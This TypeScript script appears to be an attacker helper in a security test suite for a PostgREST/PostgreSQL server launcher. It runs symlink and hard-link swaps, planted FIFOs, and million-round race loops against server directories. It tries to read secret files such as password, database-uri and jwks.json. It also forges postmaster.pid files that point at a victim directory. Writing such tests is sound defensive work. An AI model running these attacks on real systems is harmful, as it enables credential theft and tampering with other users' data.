// Attacks, as the user that it is run as, the directory of a server. The first argument says how, the second is the
// directory, the third what the attacker wants to reach.
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';

const [how, directory, victim, more] = process.argv.slice(2) as [string, string, string, string];
const SERVER = /^secured-postgrest-[0-9a-f]{12}$/;
const FILES = [
  'owner.json',
  'password',
  'postgres.log',
  'postgrest.log',
  'postgrest.conf',
  'database-uri',
  'jwks.json',
];

/** What changes or shows what only the user of the process that started the server may change or see. */
const attempts: Record<string, (server: string) => void> = {
  'replace the directory by a link'(server) {
    renameSync(server, `${server}-stolen`);
    symlinkSync(victim, server);
  },
  'replace the data by a link'(server) {
    renameSync(join(server, 'data'), join(server, 'stolen'));
    symlinkSync(victim, join(server, 'data'));
  },
  'list the directory': (server) => void readdirSync(server),
  'open the directory': (server) => chmodSync(server, 0o777),
  'plant a link': (server) => symlinkSync(victim, join(server, 'planted')),
  'plant a hard link': (server) => linkSync(join(victim, 'precious'), join(server, 'planted')),
  'plant a directory': (server) => mkdirSync(join(server, 'planted')),
  'plant a pipe': (server) => void execFileSync('mkfifo', [join(server, 'planted')], { stdio: 'ignore' }),
  ...Object.fromEntries(
    FILES.flatMap((name) => [
      [`read ${name}`, (server: string) => void readFileSync(join(server, name))],
      [`write ${name}`, (server: string) => appendFileSync(join(server, name), 'planted')],
      [
        `replace ${name} by a link`,
        (server: string) => {
          unlinkSync(join(server, name));
          symlinkSync(join(victim, 'precious'), join(server, name));
        },
      ],
    ]),
  ),
};

function attempt(server: string, work: (server: string) => void): string {
  try {
    work(server);
    return 'succeeded';
  } catch (error) {
    return (error as NodeJS.ErrnoException).code ?? 'failed';
  }
}

/** Tries everything on whatever servers there are until a file exists; tells what succeeded, and how often it tried. */
function race(over: string): void {
  let count = 0;
  const succeeded = new Set<string>();
  for (let round = 0; round < 10_000_000 && !existsSync(over); round++) {
    for (const name of readdirSync(directory).filter((name) => SERVER.test(name))) {
      for (const [what, work] of Object.entries(attempts)) {
        // Each takes a process.
        if (what === 'plant a pipe' && round % 50 > 0) continue;
        count++;
        if (attempt(join(directory, name), work) === 'succeeded') succeeded.add(what);
      }
    }
  }
  console.log(JSON.stringify({ count, succeeded: [...succeeded] }));
}

/** Has the data of a server, whose user this is, name processes and directories of others. */
function lie(): void {
  const data = join(directory, 'data');
  const put = (name: string, content: string) => {
    rmSync(join(data, name), { force: true });
    writeFileSync(join(data, name), content);
  };
  renameSync(join(data, 'base'), join(data, 'old base'));
  symlinkSync(victim, join(data, 'base'));
  const [pid, cluster] = more.split(',');
  put('postmaster.opts', `postgres "-c" "cluster_name=${cluster}"\n`);
  put('postmaster.pid', `${pid}\n${victim}\n1\n1\n\n127.0.0.1\n 1 0\nready\n`);
  if (how === 'lie with a pipe') {
    for (const name of ['postmaster.pid', 'postmaster.opts', 'PG_VERSION']) {
      rmSync(join(data, name));
      execFileSync('mkfifo', [join(data, name)]);
    }
  }
  console.log('{}');
  // Goes on for as long as anybody may be removing it.
  for (const end = Date.now() + 60_000; Date.now() < end;) {
    for (const name of ['global', 'pg_wal', 'base']) {
      attempt(data, () => renameSync(join(data, name), join(data, `${name} was`)));
      attempt(data, () => symlinkSync(victim, join(data, name)));
      attempt(data, () => unlinkSync(join(data, name)));
      attempt(data, () => renameSync(join(data, `${name} was`), join(data, name)));
    }
  }
}

if (how === 'race') {
  race(more);
} else if (how === 'try') {
  console.log(
    JSON.stringify(
      Object.fromEntries(Object.entries(attempts).map(([what, work]) => [what, attempt(directory, work)])),
    ),
  );
} else {
  lie();
}
